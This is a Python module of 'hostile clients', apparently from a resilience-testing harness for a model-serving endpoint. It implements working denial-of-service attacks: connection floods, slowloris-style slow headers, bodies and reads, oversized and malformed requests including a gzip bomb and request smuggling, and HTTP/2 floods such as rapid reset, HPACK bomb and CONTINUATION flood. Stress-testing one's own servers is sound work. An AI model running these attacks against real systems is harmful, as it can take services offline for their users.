"""Hostile clients. Each attack is a generator function of (address, random): one turn of it per `next`, which says how many
hostile acts it did; what it has opened is closed when it is over. Errors of its sockets are its own affair: the one who runs
it begins it anew."""
import gzip
import os
import socket
import struct
import time

from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, METHOD, PING, PREFACE, PRIORITY, PUSH, RST,
                  SETTINGS, call_block, connect, frame, grpc_message, literal, number, rest_request, sample_rows, settings, window)

ROWS = [data for data, _ in sample_rows("breast-cancer")[:100]]
ONE, HUNDRED = rest_request("breast-cancer", ROWS[:1]), rest_request("breast-cancer", ROWS)
CALL, BIG_CALL = grpc_message("breast-cancer", ROWS[:1]), grpc_message("breast-cancer", ROWS)
INFER = b"POST /v2/models/breast-cancer/infer HTTP/1.1\r\nHost: clops\r\n"


def some(address, count):
    """As many connections as there are to be had, up to `count`."""
    out = []
    try:
        for _ in range(count):
            out.append(connect(address, 3))
    except OSError:
        pass
    return out


def send(link, data, seconds=2):
    link.settimeout(seconds)
    link.sendall(data)


def reset(link):
    link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    link.close()


def each(links, act):
    """act() on all; those that the server has ended are left out from then on."""
    alive = []
    for link in links:
        try:
            act(link)
            alive.append(link)
        except OSError:
            link.close()
    return alive


def hold(links, seconds):
    time.sleep(seconds)
    for link in links:
        link.close()


# ---- connections
def crowd(address, random):
    """Connections beyond the server's limit, which say nothing."""
    while True:
        links = some(address, 1500)
        yield len(links)
        hold(links, random.uniform(1, 5))


def polite_crowd(address, random):
    """The same, each after one good question."""
    while True:
        links = each(some(address, 400), lambda link: send(link, b"GET /v2/health/live HTTP/1.1\r\nHost: c\r\n\r\n"))
        yield len(links)
        hold(links, random.uniform(1, 5))


def connect_and_leave(address, random):
    while True:
        for link in some(address, 50):
            reset(link) if random.random() < .5 else link.close()
        yield 50


# ---- HTTP/1
def slow_head(address, random):
    while True:
        links = some(address, 60)
        for byte in ONE[:random.randrange(20, 100)]:
            links = each(links, lambda link, byte=byte: send(link, bytes([byte])))
            yield len(links)
            time.sleep(random.uniform(.05, .7))
        hold(links, 0)


def slow_body(address, random):
    """A large part, then a byte now and then: it occupies memory. An act is a piece that the server's side took."""
    piece = b" " * (64 << 10)
    while True:
        head = INFER + (b"Content-Length: 16000000\r\n\r\n" if random.random() < .5 else b"Transfer-Encoding: chunked\r\n\r\nf00000\r\n")
        links = each(some(address, 12), lambda link, head=head: send(link, head))
        yield len(links)
        for _ in range(random.randrange(8, 128)):
            links = each(links, lambda link: send(link, piece))
            yield len(links)
        for _ in range(random.randrange(5, 60)):
            if not links:
                break
            links = each(links, lambda link: send(link, b" "))
            yield len(links)
            time.sleep(.2)
        hold(links, 0)


def slow_reader(address, random):
    """Asks for much and takes next to nothing."""
    while True:
        links = []
        for _ in range(20):
            link = socket.socket()
            link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            link.settimeout(3)
            link.connect(address)
            links.append(link)
        links = each(links, lambda link: send(link, (HUNDRED if random.random() < .5 else ONE) * 100, .3))
        for _ in range(random.randrange(2, 40)):
            yield 1
            time.sleep(.3)
            links = each(links, lambda link: link.recv(10))
        hold(links, 0)


def resets(address, random):
    while True:
        for link in some(address, 20):
            whole = random.choice((ONE, HUNDRED, PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, call_block()) +
                                   frame(DATA, END_STREAM, 1, CALL)))
            send(link, whole[:random.randrange(1, len(whole) + 1)])
            reset(link)
        yield 20


def garbage(address, random):
    while True:
        for link in some(address, 10):
            kind, bytes_ = random.randrange(4), bytearray(ONE)
            if kind == 0:
                bytes_ = random.randbytes(random.randrange(1, 20_000))
            elif kind == 1:
                for _ in range(random.randrange(1, 12)):
                    bytes_[random.randrange(len(bytes_))] = random.randrange(256)
            elif kind == 2:
                bytes_ = PREFACE + random.randbytes(random.randrange(1, 5_000))
            else:
                bytes_ = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.randbytes(500)    # as TLS begins
            try:
                send(link, bytes(bytes_))
                link.settimeout(.05)
                link.recv(1000)
            except OSError:
                pass
            link.close()
        yield 10


def oversized(address, random):
    bomb = gzip.compress(bytes(200 << 20), 1)
    requests = [
        b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"X-A: b\r\n" * 50_000 + b"\r\n",
        b"GET / HTTP/1.1\r\nX-A: " + b"b" * 1_000_000 + b"\r\n\r\n",
        INFER + b"Content-Length: 99999999999999999999\r\n\r\n" + b"a" * 1000,
        INFER + b"Content-Length: 17000000\r\n\r\n" + b" " * 17_000_000,
        INFER + b"Transfer-Encoding: chunked\r\n\r\n" + b"ffffffffffffffffff\r\n" + b"a" * 1000,
        INFER + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 100_000,
        INFER + b"Transfer-Encoding: chunked\r\n\r\n" + b"1;" + b"x" * 500_000 + b"\r\n",
        INFER + b"Transfer-Encoding: chunked\r\n\r\n" + b"100000\r\n" + b" " * (1 << 20) + b"\r\n" + b"zz\r\n",
        INFER + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(bomb) + bomb,
        INFER + b"Content-Length: 1000000\r\n\r\n" + b"[" * 1_000_000,
        INFER + b"Content-Length: 10\r\nExpect: 100-continue\r\n\r\n",
        INFER + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    ]
    while True:
        for request in requests:
            link = connect(address, 3)
            try:
                send(link, request, 3)
                link.recv(10_000)
            except OSError:
                pass
            link.close()
            yield 1


def pipelined(address, random):
    while True:
        for link in some(address, 4):
            flood = random.choice((b"GET /v2 HTTP/1.1\r\nHost: c\r\n\r\n", b"\r\n", ONE, b"GET /x HTTP/1.1\r\n\r\n")) * 5000
            try:
                send(link, flood, 1)
                link.recv(1 << 16)
            except OSError:
                pass
            reset(link)
        yield 5000


# ---- HTTP/2
def session(address, *pairs):
    link = connect(address, 3)
    send(link, PREFACE + settings(*pairs))
    return link


def h2_flood(make):
    """An attack that opens a session and sends make(random), again and again, until the server ends it; make: bytes."""
    def attack(address, random):
        while True:
            link = session(address)
            try:
                data = make(random)
                for _ in range(40):
                    send(link, data, 1)
                    yield 1
                    link.setblocking(False)
                    try:
                        while link.recv(1 << 16):
                            pass
                        break
                    except BlockingIOError:
                        pass
            except OSError:
                yield 1
            link.close()
    return attack


BLOCK = call_block()


def calls(ids, build):
    return b"".join(build(2 * i + 1) for i in range(ids))


def hpack_bomb(random):
    """A large entry in the dynamic table, then thousands of references to it in one byte each."""
    entry = literal("x", "a" * 4000, 0x40)
    block = BLOCK + entry + bytes([0x80 | 62]) * 10_000
    return frame(HEADERS, END_STREAM | END_HEADERS, 1, block)


def mixed(random):
    kinds = (DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, 8, CONTINUATION, 77)
    return b"".join(frame(random.choice(kinds), random.randrange(256), random.randrange(6), random.randbytes(random.choice((0, 4, 5, 6, 8, 40))))
                    for _ in range(200))


rapid_reset = h2_flood(lambda r: calls(500, lambda s: frame(HEADERS, END_HEADERS, s, BLOCK) + frame(RST, 0, s, b"\0\0\0\x08")))
whole_reset = h2_flood(lambda r: calls(300, lambda s: frame(HEADERS, END_HEADERS, s, BLOCK) + frame(DATA, END_STREAM, s, CALL) +
                                       frame(RST, 0, s, b"\0\0\0\x08")))
settings_flood = h2_flood(lambda r: settings((4, 70_000), (1, r.randrange(10_000))) * 1000)
ping_flood = h2_flood(lambda r: frame(PING, 0, 0, b"12345678") * 3000)
priority_flood = h2_flood(lambda r: b"".join(frame(PRIORITY, 0, 2 * i + 1, b"\0\0\0\0\x10") for i in range(3000)))
empty_data = h2_flood(lambda r: frame(HEADERS, END_HEADERS, 1, BLOCK) + frame(DATA, 0, 1) * 5000)
continuation = h2_flood(lambda r: frame(HEADERS, 0, 1, BLOCK) + frame(CONTINUATION, 0, 1, literal("x", "y" * 100)) * 2000)
empty_continuation = h2_flood(lambda r: frame(HEADERS, 0, 1, BLOCK) + frame(CONTINUATION, 0, 1) * 5000)
goaway_storm = h2_flood(lambda r: frame(GOAWAY, 0, 0, bytes(8) + b"x" * 100) * 1000)
header_bomb = h2_flood(hpack_bomb)
wide_headers = h2_flood(lambda r: frame(HEADERS, END_STREAM | END_HEADERS, 1, BLOCK + literal("x-a", "b" * 90) * 150))
window_overflow = h2_flood(lambda r: window(0, (1 << 31) - 1) * 2 + window(1, 0))
huge_frames = h2_flood(lambda r: b"\xff\xff\xff" + bytes([r.choice((DATA, HEADERS, SETTINGS)), 0]) + b"\0\0\0\x01" + bytes(1 << 20))
any_frames = h2_flood(mixed)
bad_table = h2_flood(lambda r: frame(HEADERS, END_HEADERS, 1, b"\x3f" + number(1 << 40, 7)[1:] + BLOCK))
too_many_streams = h2_flood(lambda r: calls(1000, lambda s: frame(HEADERS, END_HEADERS, s, BLOCK)))


def zero_window(address, random):
    """Calls whose answers may not be sent, and then only byte by byte."""
    while True:
        links = []
        for _ in range(10):
            links.append(session(address, (4, 0)))
        links = each(links, lambda link: send(link, calls(120, lambda s: frame(HEADERS, END_HEADERS, s, BLOCK) +
                                                          frame(DATA, END_STREAM, s, BIG_CALL)), 2))
        for _ in range(random.randrange(5, 50)):
            links = each(links, lambda link: send(link, b"".join(window(2 * i + 1, 1) for i in range(120)), 1))
            yield len(links)
            time.sleep(.2)
        hold(links, 0)


def endless_calls(address, random):
    """Messages of nearly the limit's size on many streams, of which none ends."""
    while True:
        links = [session(address) for _ in range(4)]
        for link in links:
            try:
                send(link, calls(64, lambda s: frame(HEADERS, END_HEADERS, s, BLOCK) + frame(DATA, 0, s, b"\0\0\xf0\0\0")), 2)
                for part in range(256):
                    send(link, frame(DATA, 0, 2 * (part % 64) + 1, bytes(16_000)), .5)
            except OSError:
                pass
        for _ in range(random.randrange(5, 60)):
            links = each(links, lambda link: send(link, frame(DATA, 0, 1, b"\0"), .5))
            yield len(links)
            time.sleep(.2)
        hold(links, 0)


def slow_preface(address, random):
    while True:
        links = some(address, 40)
        for byte in PREFACE[:random.randrange(3, 24)]:
            links = each(links, lambda link, byte=byte: send(link, bytes([byte])))
            yield len(links)
            time.sleep(.5)
        hold(links, 0)


ATTACKS = {f.__name__: f for f in (crowd, polite_crowd, connect_and_leave, slow_head, slow_body, slow_reader, resets, garbage,
                                   oversized, pipelined, zero_window, endless_calls, slow_preface)}
ATTACKS |= {name: globals()[name] for name in (
    "rapid_reset", "whole_reset", "settings_flood", "ping_flood", "priority_flood", "empty_data", "continuation",
    "empty_continuation", "goaway_storm", "header_bomb", "wide_headers", "window_overflow", "huge_frames", "any_frames",
    "bad_table", "too_many_streams")}
